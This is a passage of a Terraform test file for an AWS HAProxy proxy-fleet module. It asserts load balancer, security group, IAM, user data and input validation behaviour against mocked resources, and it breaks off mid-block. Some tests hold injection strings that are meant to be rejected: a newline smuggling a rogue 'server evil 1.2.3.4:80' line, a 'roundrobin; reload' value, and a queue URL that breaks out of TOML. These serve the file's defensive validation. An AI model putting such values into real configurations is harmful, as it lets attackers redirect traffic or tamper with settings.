# Wiring of the proxy-fleet module, applied against a mocked AWS provider.
# Run: terraform init -backend=false && terraform test (scripts/check-terraform does it).

mock_provider "aws" {
  mock_data "aws_region" {
    defaults = { name = "us-west-2" }
  }
  mock_data "aws_partition" {
    defaults = { partition = "aws" }
  }
  mock_data "aws_ami" {
    defaults = { id = "ami-0123456789abcdef0" }
  }
  mock_data "aws_iam_policy_document" {
    defaults = { json = "{\"Version\":\"2012-10-17\",\"Statement\":[]}" }
  }
  mock_resource "aws_s3_bucket" {
    defaults = {
      id  = "proxy-artifacts-0123"
      arn = "arn:aws:s3:::proxy-artifacts-0123"
    }
  }
  mock_resource "aws_iam_role" {
    defaults = {
      arn       = "arn:aws:iam::123456789012:role/proxy-0123"
      unique_id = "AROA1234567890EXAMPLE"
    }
  }
  mock_resource "aws_iam_instance_profile" {
    defaults = { arn = "arn:aws:iam::123456789012:instance-profile/proxy-0123" }
  }
  mock_resource "aws_launch_template" {
    defaults = {
      id             = "lt-0123456789abcdef0"
      latest_version = 1
    }
  }
  mock_resource "aws_lb" {
    defaults = {
      arn      = "arn:aws:elasticloadbalancing:us-west-2:123456789012:loadbalancer/net/proxy/0123456789abcdef"
      dns_name = "proxy-0123456789abcdef.elb.us-west-2.amazonaws.com"
      zone_id  = "Z18D5FSROUN65G"
    }
  }
  mock_resource "aws_lb_target_group" {
    defaults = { arn = "arn:aws:elasticloadbalancing:us-west-2:123456789012:targetgroup/proxy/0123456789abcdef" }
  }
  mock_resource "aws_elb" {
    defaults = {
      dns_name = "proxy-123.us-west-2.elb.amazonaws.com"
      zone_id  = "Z1H1FL5HABSF5"
    }
  }
}

# Distinct ids, so that the rules can be told apart by the group they reference.
override_resource {
  target = aws_security_group.proxy
  values = { id = "sg-0proxy" }
}

override_resource {
  target = aws_security_group.lb
  values = { id = "sg-0lb" }
}

variables {
  name                = "proxy"
  vpc_id              = "vpc-0123456789abcdef0"
  backend_cidr_blocks = ["10.0.10.0/24", "10.0.11.0/24"]
  subnet_ids          = ["subnet-0123456789abcdef0", "subnet-0123456789abcdef1"]
  agent_binary_path   = "tests/fixtures/agent"
  pools = [
    { name = "web", port = 8080, bind = ":80", health_path = "/healthz" },
    { name = "api", port = 9000, bind = ":8443", slots = 8 },
  ]
  groups = {
    "web-asg" = ["web"]
    "api-asg" = ["api"]
  }
  report_queue_url = "https://sqs.us-west-2.amazonaws.com/123456789012/reactor-inbox"
  report_queue_arn = "arn:aws:sqs:us-west-2:123456789012:reactor-inbox"
  # Checksums of no real package: the tests only follow them into the user data.
  ssm_agent_version = "3.3.1234.0"
  ssm_agent_sha256 = {
    x86_64 = "1111111111111111111111111111111111111111111111111111111111111111"
    arm64  = "2222222222222222222222222222222222222222222222222222222222222222"
  }
}

run "nlb" {
  command = apply

  # --- NLB with proxy protocol v2, one listener and target group per bind port ---
  assert {
    condition     = aws_lb.this[0].load_balancer_type == "network"
    error_message = "The default load balancer must be an NLB."
  }
  assert {
    condition     = toset(keys(aws_lb_target_group.this)) == toset(["80", "8443"])
    error_message = "There must be one target group per pool bind port."
  }
  assert {
    condition     = alltrue([for tg in aws_lb_target_group.this : tg.proxy_protocol_v2 == true && tg.protocol == "TCP"])
    error_message = "Every target group must be TCP with proxy_protocol_v2 = true."
  }
  assert {
    condition     = alltrue([for port, listener in aws_lb_listener.this : listener.protocol == "TCP" && listener.port == tonumber(port) && listener.default_action[0].target_group_arn == aws_lb_target_group.this[port].arn])
    error_message = "Every listener must be TCP on its port, forwarding to its target group."
  }
  assert {
    condition     = aws_autoscaling_group.this.target_group_arns == toset([for tg in aws_lb_target_group.this : tg.arn]) && length(aws_elb.this) == 0 && length(aws_proxy_protocol_policy.this) == 0
    error_message = "The group must be attached to the NLB's target groups and no classic ELB must exist."
  }
  assert {
    condition     = aws_autoscaling_group.this.health_check_type == "ELB"
    error_message = "Behind a load balancer the group must use its health checks."
  }

  # --- The load balancer cannot be bypassed -----------------------------------
  assert {
    condition     = aws_lb.this[0].security_groups == toset(["sg-0lb"]) && output.load_balancer_security_group_id == "sg-0lb"
    error_message = "The NLB must have its own security group."
  }
  assert {
    condition = (
      toset(keys(aws_vpc_security_group_ingress_rule.from_lb)) == toset(["80", "8443"]) &&
      alltrue([for port, rule in aws_vpc_security_group_ingress_rule.from_lb : rule.security_group_id == "sg-0proxy" && rule.referenced_security_group_id == "sg-0lb" && rule.cidr_ipv4 == null && rule.from_port == tonumber(port) && rule.to_port == tonumber(port)])
    )
    error_message = "The proxies must accept each bind port from the load balancer's security group only (traffic and health checks)."
  }
  assert {
    condition     = length(aws_vpc_security_group_ingress_rule.clients) == 0
    error_message = "Behind a load balancer no client CIDR (0.0.0.0/0 least of all) may reach the proxies directly."
  }
  assert {
    condition = toset([for rule in aws_vpc_security_group_ingress_rule.lb_clients : "${rule.security_group_id} ${rule.cidr_ipv4} ${rule.from_port}"]) == toset([
      "sg-0lb 0.0.0.0/0 80", "sg-0lb 0.0.0.0/0 8443",
    ])
    error_message = "The load balancer's security group must take the client CIDRs on the listener ports."
  }
  assert {
    condition     = alltrue([for port, rule in aws_vpc_security_group_egress_rule.lb_proxies : rule.security_group_id == "sg-0lb" && rule.referenced_security_group_id == "sg-0proxy" && rule.from_port == tonumber(port)]) && length(aws_vpc_security_group_egress_rule.lb_proxies) == 2
    error_message = "The load balancer may send to the proxies' bind ports only."
  }
  assert {
    condition     = aws_launch_template.this.network_interfaces[0].associate_public_ip_address == "false"
    error_message = "The proxies must never get a public address."
  }

  # --- accept_proxy: agent.toml and user data ---------------------------------
  assert {
    condition     = output.accept_proxy == true && strcontains(output.agent_config, "[render]\naccept_proxy = true\n")
    error_message = "Behind the NLB agent.toml must set accept_proxy = true (HAProxy binds accept-proxy)."
  }
  assert {
    condition     = output.agent_config == <<-EOT
      # Written by Terraform (haproxy-asg proxy-fleet module); format: docs/interfaces.md.
      member_networks = ["10.0.10.0/24","10.0.11.0/24"]

      [haproxy]
      config = "/etc/haproxy/haproxy.cfg"
      # The pools' backends: the agent's own file, a second -f (haproxy.cfg is the operator's).
      pools_config = "/etc/haproxy/haproxy-asg.cfg"
      admin_socket = "/run/haproxy/admin.sock"
      master_socket = "/run/haproxy/master.sock"
      binary = "/usr/sbin/haproxy"
      state_dir = "/var/lib/haproxy-asg"

      [render]
      accept_proxy = true
      user = "haproxy"
      group = "haproxy"
      chroot = "/var/lib/haproxy"
      log = "/dev/log"

      [[pool]]
      name = "web"
      port = 8080
      ports = []
      bind = ":80"
      slots = 16
      max_slots = 4096
      balance = "roundrobin"
      max_members = 1000
      server_options = "check inter 500ms fall 2 rise 2"
      health_path = "/healthz"
      health_timeout_s = 30
      drain_timeout_s = 60

      [[pool]]
      name = "api"
      port = 9000
      ports = []
      bind = ":8443"
      slots = 8
      max_slots = 4096
      balance = "roundrobin"
      max_members = 1000
      server_options = "check inter 500ms fall 2 rise 2"
      health_timeout_s = 30
      drain_timeout_s = 60

      [aws]
      groups = { "api-asg" = ["api"], "web-asg" = ["web"] }
      sync_interval_s = 300

      [metrics]
      haproxy = "127.0.0.1:8405"
      agent = "127.0.0.1:9405"

      [report]
      queue_url = "https://sqs.us-west-2.amazonaws.com/123456789012/reactor-inbox"
      EOT
    error_message = "agent.toml must follow docs/interfaces.md, with [report] queue_url the reactor's inbox."
  }
  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "{\n  printf '# This instance (IMDSv2, at first boot): the host its reports name.\\nhost = \"%s\"\\n' \"$instance_id\"\n  printf '# Its Availability Zone (IMDSv2 placement/availability-zone).\\nzone = \"%s\"\\n' \"$zone\"\n  cat <<'HAPROXY_ASG_AGENT_TOML'\n${trimspace(output.agent_config)}\nHAPROXY_ASG_AGENT_TOML\n} > /etc/haproxy-asg/agent.toml\n")
    error_message = "The user data must write host = the instance id and zone = its Availability Zone (top-level keys, before any table), then agent.toml verbatim (quoted heredoc)."
  }
  assert {
    condition = (
      strcontains(base64decode(aws_launch_template.this.user_data), "zone=\"$(curl -fsS --max-time 2 -H \"X-aws-ec2-metadata-token: $token\" http://169.254.169.254/latest/meta-data/placement/availability-zone)\"") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "[[ \"$zone\" =~ ^[a-z]{2}(-[a-z0-9]+)+$ ]]") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "could not read this instance's Availability Zone from IMDSv2") &&
      !strcontains(output.agent_config, "\nzone = ")
    )
    error_message = "The user data must read the zone from IMDSv2 (meta-data/placement/availability-zone, with a token, retried, shape-checked, stopping when it cannot); Terraform renders no zone of its own (each proxy has its own)."
  }
  assert {
    condition = (
      strcontains(base64decode(aws_launch_template.this.user_data), "token=\"$(curl -fsS --max-time 2 -X PUT -H \"X-aws-ec2-metadata-token-ttl-seconds: 60\" http://169.254.169.254/latest/api/token)\"") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "instance_id=\"$(curl -fsS --max-time 2 -H \"X-aws-ec2-metadata-token: $token\" http://169.254.169.254/latest/meta-data/instance-id)\"") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "[[ \"$instance_id\" =~ ^i-[0-9a-f]{8,17}$ ]]")
    )
    error_message = "The user data must read the instance id from IMDSv2 (a token, then meta-data/instance-id) and check its shape before it goes into agent.toml."
  }
  assert {
    condition = (
      strcontains(base64decode(aws_launch_template.this.user_data), "for attempt in 1 2 3 4 5 6 7 8 9 10; do") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "could not read this instance's id from IMDSv2") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "stopping\" >&2\n  exit 1\nfi\n")
    )
    error_message = "Reading the instance id must be retried a bounded number of times, and stop the provisioning with a clear message when it fails."
  }
  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "apt-get install -y -q --no-install-recommends haproxy awscli ca-certificates curl\n") && strcontains(base64decode(aws_launch_template.this.user_data), "echo \"haproxy-asg: HAProxy $haproxy_installed, as asked ($haproxy_asked)\"\n\n# This instance's id")
    error_message = "The instance id is read once curl is installed (and HAProxy's version checked)."
  }
  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "/usr/local/bin/agent --config /etc/haproxy-asg/agent.toml config render --output /etc/haproxy/haproxy.cfg\n") && strcontains(base64decode(aws_launch_template.this.user_data), "pools_config = \"/etc/haproxy/haproxy-asg.cfg\"")
    error_message = "The user data must render haproxy.cfg (checked, atomically) and the agent's own file of backends with the agent."
  }
  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "apt-get install -y -q --no-install-recommends haproxy")
    error_message = "The user data must install Debian's haproxy."
  }
  assert {
    condition = (
      strcontains(base64decode(aws_launch_template.this.user_data), "/usr/local/bin/agent --config /etc/haproxy-asg/agent.toml config haproxy-dropin > /etc/systemd/system/haproxy.service.d/haproxy-asg.conf") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "/usr/local/bin/agent --config /etc/haproxy-asg/agent.toml config unit > /etc/systemd/system/haproxy-asg-agent.service")
    )
    error_message = "The units must be written by the agent from agent.toml (HAProxy's drop-in, the agent service's unit)."
  }
  assert {
    condition = (
      strcontains(base64decode(aws_launch_template.this.user_data), "systemctl enable haproxy.service haproxy-asg-agent.service") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "systemctl start --no-block haproxy-asg-agent.service") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "cat > /etc/default/haproxy-asg-agent <<'HAPROXY_ASG_AGENT_ENV'\nAWS_REGION=us-west-2\nHAPROXY_ASG_AGENT_ENV\n")
    )
    error_message = "The agent service must be enabled and started, with the region in its environment file."
  }
  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "aws s3 cp --region \"us-west-2\" --only-show-errors \"s3://proxy-artifacts-0123/agent/${filesha256("tests/fixtures/agent")}/agent\"")
    error_message = "The user data must download the uploaded agent object."
  }
  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "echo \"${filesha256("tests/fixtures/agent")}  /usr/local/bin/agent.download\" | sha256sum -c -")
    error_message = "The user data must check the agent's SHA-256."
  }
  assert {
    condition     = strcontains(base64decode(aws_launch_template.this.user_data), "\"https://s3.us-west-2.amazonaws.com/amazon-ssm-us-west-2/3.3.1234.0/debian_amd64/amazon-ssm-agent.deb\"")
    error_message = "The user data must download the pinned SSM Agent version of the architecture."
  }
  assert {
    condition = (
      strcontains(base64decode(aws_launch_template.this.user_data), "if ! echo \"1111111111111111111111111111111111111111111111111111111111111111  /tmp/amazon-ssm-agent.deb\" | sha256sum -c -; then") &&
      strcontains(base64decode(aws_launch_template.this.user_data), "refusing to install it\" >&2\n    rm -f /tmp/amazon-ssm-agent.deb\n    exit 1\n  fi\n  dpkg -i /tmp/amazon-ssm-agent.deb")
    )
    error_message = "The user data must install the SSM Agent only if sha256sum -c accepts its pinned checksum, and stop otherwise."
  }
  assert {
    condition     = !strcontains(base64decode(aws_launch_template.this.user_data), "amazon-ssm-us-west-2/latest/")
    error_message = "The SSM Agent must not come from the unpinned latest/ path."
  }
  assert {
    condition     = aws_s3_object.agent.source == "tests/fixtures/agent" && aws_s3_object.agent.key == "agent/${filesha256("tests/fixtures/agent")}/agent"
    error_message = "The module must upload the agent binary, content-addressed."
  }
  assert {
    condition     = aws_launch_template.this.image_id == "ami-0123456789abcdef0" && data.aws_ami.debian[0].owners == tolist(["136693071363"])
    error_message = "The proxies must run the Debian 12 AMI found by the data source."
  }
  assert {
    condition     = aws_launch_template.this.metadata_options[0].http_tokens == "required"
    error_message = "IMDSv2 must be required."
  }

  # --- IAM ------------------------------------------------------------------------
  assert {
    condition     = aws_iam_role_policy_attachment.ssm.policy_arn == "arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore"
    error_message = "The instance profile must have AmazonSSMManagedInstanceCore."
  }
  assert {
    condition     = aws_iam_role_policy.instance.policy == data.aws_iam_policy_document.instance.json && aws_iam_role.instance.assume_role_policy == data.aws_iam_policy_document.assume_role.json
    error_message = "The role's policies must be the aws_iam_policy_document data sources."
  }
  assert {
    condition     = [for s in data.aws_iam_policy_document.instance.statement : s.resources if s.sid == "AgentBinary"][0] == toset(["arn:aws:s3:::proxy-artifacts-0123/agent/${filesha256("tests/fixtures/agent")}/agent"])
    error_message = "The proxies may read exactly the agent object."
  }
  assert {
    condition     = toset(flatten([for s in data.aws_iam_policy_document.instance.statement : s.actions if s.resources == toset(["*"]) && s.effect == "Allow"])) == toset(["autoscaling:DescribeAutoScalingGroups", "ec2:DescribeInstances"])
    error_message = "Unscoped allowed actions must be read-only discovery."
  }
  assert {
    condition = one([
      for s in data.aws_iam_policy_document.instance.statement : s
      if s.effect == "Deny" && s.actions == toset(["ssm:GetParameter", "ssm:GetParameters", "ssm:GetParametersByPath"]) && s.resources == toset(["*"])
    ]) != null
    error_message = "The proxies' role must explicitly deny reading Parameter Store (AmazonSSMManagedInstanceCore allows it)."
  }
  assert {
    condition = (
      [for s in data.aws_iam_policy_document.instance.statement : s.actions if s.sid == "Reports"][0] == toset(["sqs:SendMessage"]) &&
      [for s in data.aws_iam_policy_document.instance.statement : s.resources if s.sid == "Reports"][0] == toset(["arn:aws:sqs:us-west-2:123456789012:reactor-inbox"])
    )
    error_message = "The proxies may send their reports to the reactor's inbox, and nowhere else."
  }
  assert {
    condition     = toset(flatten([for s in data.aws_iam_policy_document.instance.statement : [for a in s.actions : a if startswith(a, "sqs:")]])) == toset(["sqs:SendMessage"])
    error_message = "sqs:SendMessage is the proxies' only SQS action."
  }
  assert {
    condition     = toset([for s in data.aws_iam_policy_document.instance.statement : s.sid]) == toset(["AgentBinary", "Discovery", "Reports", "DenyParameterStore"])
    error_message = "Without kms_key_arn the proxies' policy must hold exactly the agent binary, discovery, reports and the Parameter Store deny."
  }
  assert {
    condition     = output.role_arn == "arn:aws:iam::123456789012:role/proxy-0123" && output.role_unique_id == "AROA1234567890EXAMPLE"
    error_message = "The outputs must give the role's ARN and unique id (the reactor's proxy_role_arn and proxy_role_id)."
  }

  # --- Proxy tag, propagated to the instances ------------------------------------
  assert {
    condition     = anytrue([for tag in aws_autoscaling_group.this.tag : tag.key == "haproxy-asg:fleet" && tag.value == "proxy" && tag.propagate_at_launch])
    error_message = "The group must tag its instances with the proxy tag at launch."
  }
  assert {
    condition     = output.proxy_tag_key == "haproxy-asg:fleet" && output.proxy_tag_value == "proxy" && output.autoscaling_group_name == "proxy"
    error_message = "The outputs must carry the proxy tag and group for the reactor."
  }
  assert {
    condition     = output.reactor_dns == null
    error_message = "Behind a load balancer the reactor maintains no per-proxy records."
  }
}

run "classic_elb_with_alias" {
  command = apply

  variables {
    load_balancer_type = "elb"
    dns_zone_id        = "Z0123456789ABCDEFGHIJ"
    dns_record_name    = "www.example.com"
  }

  assert {
    condition     = length(aws_lb.this) == 0 && length(aws_lb_target_group.this) == 0 && length(aws_elb.this) == 1
    error_message = "load_balancer_type = elb must create a classic ELB only."
  }
  assert {
    condition     = toset(aws_proxy_protocol_policy.this[0].instance_ports) == toset(["80", "8443"])
    error_message = "The classic ELB must have a proxy protocol policy on every instance port."
  }
  assert {
    condition     = toset([for l in aws_elb.this[0].listener : "${l.lb_protocol}:${l.lb_port}->${l.instance_port}"]) == toset(["tcp:80->80", "tcp:8443->8443"])
    error_message = "The classic ELB must have TCP listeners on the bind ports."
  }
  assert {
    condition     = aws_autoscaling_group.this.load_balancers == toset([aws_elb.this[0].name])
    error_message = "The group must be attached to the classic ELB."
  }
  assert {
    condition = (
      aws_elb.this[0].security_groups == toset(["sg-0lb"]) &&
      alltrue([for rule in aws_vpc_security_group_ingress_rule.from_lb : rule.referenced_security_group_id == "sg-0lb" && rule.cidr_ipv4 == null]) &&
      length(aws_vpc_security_group_ingress_rule.from_lb) == 2 && length(aws_vpc_security_group_ingress_rule.clients) == 0
    )
    error_message = "Behind the classic ELB the proxies must accept their bind ports from the ELB's security group only."
  }
  assert {
    condition     = strcontains(output.agent_config, "accept_proxy = true")
    error_message = "Behind the classic ELB HAProxy must accept proxy protocol."
  }
  assert {
    condition     = aws_route53_record.alias[0].alias[0].name == "proxy-123.us-west-2.elb.amazonaws.com" && aws_route53_record.alias[0].type == "A"
    error_message = "The DNS record must be an alias to the load balancer."
  }
}

run "no_load_balancer_per_proxy_dns" {
  command = plan

  variables {
    load_balancer_type = "none"
    dns_zone_id        = "Z0123456789ABCDEFGHIJ"
    dns_record_name    = "proxies.example.com"
    dns_ttl            = 30
    groups             = {}
    member_networks    = ["10.1.0.0/16", "fd00::/8"]
    metrics_haproxy    = ""
    metrics_agent      = ""
  }

  assert {
    condition     = length(aws_lb.this) == 0 && length(aws_elb.this) == 0 && length(aws_route53_record.alias) == 0
    error_message = "load_balancer_type = none must create no load balancer and no alias."
  }
  assert {
    condition     = strcontains(output.agent_config, "accept_proxy = false") && !strcontains(output.agent_config, "[aws]")
    error_message = "Without a load balancer HAProxy must not expect proxy protocol; no groups, no [aws]."
  }
  assert {
    condition     = startswith(output.agent_config, "# Written by Terraform (haproxy-asg proxy-fleet module); format: docs/interfaces.md.\nmember_networks = [\"10.1.0.0/16\",\"fd00::/8\"]\n") && !strcontains(output.agent_config, "[metrics]")
    error_message = "member_networks must be written as given; with both metrics addresses empty, no [metrics]."
  }
  assert {
    condition     = output.reactor_dns == { zone_id = "Z0123456789ABCDEFGHIJ", record_name = "proxies.example.com", ttl = 30 }
    error_message = "The module must hand the per-proxy record to the reactor."
  }
  assert {
    condition     = aws_autoscaling_group.this.health_check_type == "EC2"
    error_message = "Without a load balancer the group must use EC2 health checks."
  }
  assert {
    condition = (
      length(aws_security_group.lb) == 0 && length(aws_vpc_security_group_ingress_rule.from_lb) == 0 &&
      toset([for rule in aws_vpc_security_group_ingress_rule.clients : "${rule.cidr_ipv4} ${rule.from_port}"]) == toset(["0.0.0.0/0 80", "0.0.0.0/0 8443"])
    )
    error_message = "Without a load balancer the proxies are the entry point: ingress_cidr_blocks reach their bind ports."
  }
}

run "bind_ports_must_differ" {
  command = plan
  variables {
    pools = [
      { name = "web", port = 8080, bind = ":80" },
      { name = "web2", port = 8081, bind = "0.0.0.0:80" },
    ]
  }
  expect_failures = [var.pools]
}

run "max_slots_at_least_slots" {
  command = plan
  variables {
    pools = [{ name = "web", port = 8080, bind = ":80", slots = 64, max_slots = 32 }]
  }
  expect_failures = [var.pools]
}

run "member_networks_validated" {
  command = plan
  variables {
    member_networks = ["10.0.0.0/33"]
  }
  expect_failures = [var.member_networks]
}

run "metrics_address_validated" {
  command = plan
  variables {
    metrics_agent = "localhost:9405"
  }
  expect_failures = [var.metrics_agent]
}

run "bind_validated" {
  command = plan
  variables {
    pools = [{ name = "web", port = 8080, bind = "80" }]
  }
  expect_failures = [var.pools]
}

run "server_options_cannot_inject" {
  command = plan
  variables {
    pools = [{ name = "web", port = 8080, bind = ":80", server_options = "check\n  server evil 1.2.3.4:80" }]
  }
  expect_failures = [var.pools]
}

run "groups_name_known_pools" {
  command = plan
  variables {
    groups = { "web-asg" = ["nope"] }
  }
  expect_failures = [aws_launch_template.this]
}

run "arm64_ssm_agent" {
  command = plan

  variables {
    architecture  = "arm64"
    instance_type = "t4g.small"
  }

  assert {
    condition = (
      strcontains(local.user_data, "/amazon-ssm-us-west-2/3.3.1234.0/debian_arm64/amazon-ssm-agent.deb") &&
      strcontains(local.user_data, "echo \"2222222222222222222222222222222222222222222222222222222222222222  /tmp/amazon-ssm-agent.deb\" | sha256sum -c -")
    )
    error_message = "An arm64 fleet must download the arm64 package and check the arm64 checksum."
  }
}

# No default (a plan without it stops at "Required variable not set"); an empty map, the
# old placeholder, or no checksum of the proxies' architecture fails too: every proxy
# would stop at boot.
run "ssm_agent_sha256_not_empty" {
  command = plan
  variables {
    ssm_agent_sha256 = {}
  }
  expect_failures = [var.ssm_agent_sha256]
}

run "ssm_agent_placeholder_refused" {
  command = plan
  variables {
    ssm_agent_sha256 = { x86_64 = "0000000000000000000000000000000000000000000000000000000000000000" }
  }
  expect_failures = [var.ssm_agent_sha256]
}

run "ssm_agent_sha256_for_the_architecture" {
  command = plan
  variables {
    ssm_agent_sha256 = { arm64 = "2222222222222222222222222222222222222222222222222222222222222222" }
  }
  expect_failures = [aws_launch_template.this]
}

run "ssm_agent_sha256_of_one_architecture_is_enough" {
  command = plan
  variables {
    ssm_agent_sha256 = { x86_64 = "1111111111111111111111111111111111111111111111111111111111111111" }
  }
  assert {
    condition     = strcontains(local.user_data, "echo \"1111111111111111111111111111111111111111111111111111111111111111  /tmp/amazon-ssm-agent.deb\" | sha256sum -c -")
    error_message = "The checksum of the proxies' architecture must reach the user data."
  }
}

run "metrics_haproxy_unprivileged_port" {
  command = plan
  variables {
    metrics_haproxy = "0.0.0.0:443"
  }
  expect_failures = [var.metrics_haproxy]
}

run "metrics_agent_unprivileged_port" {
  command = plan
  variables {
    metrics_agent = "127.0.0.1:443"
  }
  expect_failures = [var.metrics_agent]
}

run "ssm_agent_sha256_validated" {
  command = plan
  variables {
    ssm_agent_sha256 = { x86_64 = "abc", arm64 = "2222222222222222222222222222222222222222222222222222222222222222" }
  }
  expect_failures = [var.ssm_agent_sha256]
}

run "ssm_agent_version_pinned" {
  command = plan
  variables {
    ssm_agent_version = "latest"
  }
  expect_failures = [var.ssm_agent_version]
}

run "pool_name_validated" {
  command = plan
  variables {
    pools = [{ name = "web app", port = 8080, bind = ":80" }]
  }
  expect_failures = [var.pools]
}

run "pool_port_validated" {
  command = plan
  variables {
    pools = [{ name = "web", port = 0, bind = ":80" }]
  }
  expect_failures = [var.pools]
}

run "pool_balance_validated" {
  command = plan
  variables {
    pools = [{ name = "web", port = 8080, bind = ":80", balance = "roundrobin; reload" }]
  }
  expect_failures = [var.pools]
}

run "pool_balance_rendered" {
  command = plan
  variables {
    pools = [
      { name = "web", port = 8080, bind = ":80" },
      { name = "api", port = 9090, bind = ":81", balance = "leastconn" },
    ]
  }
  assert {
    condition     = strcontains(local.agent_toml, "name = \"web\"\nport = 8080\nports = []\nbind = \":80\"\nslots = 16\nmax_slots = 4096\nbalance = \"roundrobin\"\n")
    error_message = "a pool without balance renders roundrobin"
  }
  assert {
    condition     = strcontains(local.agent_toml, "balance = \"leastconn\"\n")
    error_message = "a pool's balance is rendered"
  }
}

run "server_options_agent_charset" {
  command = plan
  variables {
    pools = [{ name = "web", port = 8080, bind = ":80", server_options = "check weight=10" }]
  }
  expect_failures = [var.pools]
}

run "server_options_length" {
  command = plan
  variables {
    pools = [{ name = "web", port = 8080, bind = ":80", server_options = join(" ", [for i in range(103) : "check"]) }]
  }
  expect_failures = [var.pools]
}

run "server_options_agent_accepts" {
  command = plan
  variables {
    pools  = [{ name = "web:v2", port = 8080, bind = ":80", server_options = "check inter 1s fall 2 rise 2 ssl verify none sni str:a,b/c_d.e" }]
    groups = { "web-asg" = ["web:v2"] }
  }
  assert {
    condition     = strcontains(output.agent_config, "server_options = \"check inter 1s fall 2 rise 2 ssl verify none sni str:a,b/c_d.e\"")
    error_message = "Options within the agent's characters must pass through."
  }
}

run "group_name_validated" {
  command = plan
  variables {
    groups = { "web asg" = ["web"] }
  }
  expect_failures = [var.groups]
}

run "group_pool_name_validated" {
  command = plan
  variables {
    groups = { "web-asg" = ["web app"] }
  }
  expect_failures = [var.groups]
}

run "report_queue_url_validated" {
  command = plan
  variables {
    report_queue_url = "reactor-inbox"
  }
  expect_failures = [var.report_queue_url]
}

# Plain http only to a loopback emulator.
run "report_queue_url_https" {
  command = plan
  variables {
    report_queue_url = "http://sqs.us-west-2.amazonaws.com/123456789012/reactor-inbox"
  }
  expect_failures = [var.report_queue_url]
}

# TOML-breaking characters never reach agent.toml.
run "report_queue_url_cannot_inject" {
  command = plan
  variables {
    report_queue_url = "https://sqs.us-west-2.amazonaws.com/123456789012/reactor-inbox\"\nhost = \"x"
  }
  expect_failures = [var.report_queue_url]
}

run "report_queue_url_emulator" {
  command = plan
  variables {
    report_queue_url = "http://127.0.0.1:5000/123456789012/reactor-inbox"
  }
  assert {
    condition     = strcontains(output.agent_config, "[report]\nqueue_url = \"http://127.0.0.1:5000/123456789012/reactor-inbox\"\n")
    error_message = "The emulator's loopback queue URL must be accepted and written as given."
  }
}

run "report_queue_arn_validated" {
  command = plan
  variables {
    report_queue_arn = "arn:aws:sns:us-west-2:123456789012:reactor-inbox"
  }
  expect_failures = [var.report_queue_arn]
}

run "report_queue_arn_and_url_agree" {
  command = plan
  variables {
    report_queue_arn = "arn:aws:sqs:us-west-2:123456789012:another-queue"
  }
  expect_failures = [var.report_queue_arn]
}

# One map: the reactor's group -> pools map, given to the fleet, is what the agents sync.
run "one_map_from_the_reactor" {
  command = plan
  variables {
    groups = {}
    reactor_group_pools = {
      "web-asg" = [{ name = "web", port = 8080 }]
      "api-asg" = [{ name = "api", port = 9000 }]
    }
  }
  assert {
    condition     = strcontains(output.agent_config, "\"api-asg\" = [\"api\"]") && strcontains(output.agent_config, "\"web-asg\" = [\"web\"]")
    error_message = "With groups empty, agent.toml's [aws] groups must be the reactor's map."
  }
}

run "one_map_agreeing_groups_pass" {
  command = plan
  variables {
    reactor_group_pools = {
      "web-asg" = [{ name = "web", port = 8080, ports = [] }]
      "api-asg" = [{ name = "api", port = 9000 }]
    }
  }
}

run "one_map_other_groups_fail" {
  command = plan
  variables {
    reactor_group_pools = {
      "web-asg"   = [{ name = "web", port = 8080 }]
      "api-asg"   = [{ name = "api", port = 9000 }]
      "batch-asg" = [{ name = "api", port = 9000 }]
    }
  }
  expect_failures = [aws_launch_template.this]
}

run "one_map_other_port_fails" {
  command = plan
  variables {
    reactor_group_pools = {
      "web-asg" = [{ name = "web", port = 8081 }]
      "api-asg" = [{ name = "api", port = 9000 }]
    }
  }
  expect_failures = [aws_launch_template.this]
}

run "one_map_other_ports_fail" {
  command = plan
  variables {
    reactor_group_pools = {
      "web-asg" = [{ name = "web", port = 8080, ports = [8443] }]
      "api-asg" = [{ name = "api", port = 9000 }]
    }
  }
  expect_failures = [aws_launch_template.this]
}

# Zone affinity per pool (only what differs from the defaults is written) and the
# agents' per-group weights.
run "zone_affinity_and_weights" {
  command = plan
  variables {
    pools = [
      { name = "web", port = 8080, bind = ":80", health_path = "/healthz", zone_affinity = "prefer", min_zone_members = 2 },
      { name = "api", port = 9000, bind = ":8443", slots = 8, zone_affinity = "off" },
    ]
    group_weights = { "web-asg" = 50, "api-asg" = 0 }
  }
  assert {
    condition     = strcontains(output.agent_config, "health_path = \"/healthz\"\nhealth_timeout_s = 30\ndrain_timeout_s = 60\nzone_affinity = \"prefer\"\nmin_zone_members = 2\n\n[[pool]]\nname = \"api\"")
    error_message = "A pool with zone_affinity = \"prefer\" and min_zone_members = 2 must say both in its [[pool]]."
  }
  assert {
    condition     = length(regexall("zone_affinity", output.agent_config)) == 1 && length(regexall("min_zone_members", output.agent_config)) == 1
    error_message = "A pool left at zone_affinity = \"off\" and min_zone_members = 1 must not write them."
  }
  assert {
    condition     = strcontains(output.agent_config, "[aws]\ngroups = { \"api-asg\" = [\"api\"], \"web-asg\" = [\"web\"] }\nsync_interval_s = 300\nweights = { \"api-asg\" = 0, \"web-asg\" = 50 }\n")
    error_message = "group_weights must be written to [aws] weights, sorted, 0 included."
  }
}

run "min_zone_members_alone" {
  command = plan
  variables {
    pools = [{ name = "web", port = 8080, bind = ":80", min_zone_members = 3 }, { name = "api", port = 9000, bind = ":8443" }]
  }
  assert {
    condition     = strcontains(output.agent_config, "drain_timeout_s = 60\nmin_zone_members = 3\n") && !strcontains(output.agent_config, "zone_affinity") && !strcontains(output.agent_config, "weights =")
    error_message = "min_zone_members is written alone when only it differs; without group_weights there is no [aws] weights."
  }
}

run "weights_from_the_reactor" {
  command = plan
  variables {
    groups = {}
    reactor_group_pools = {
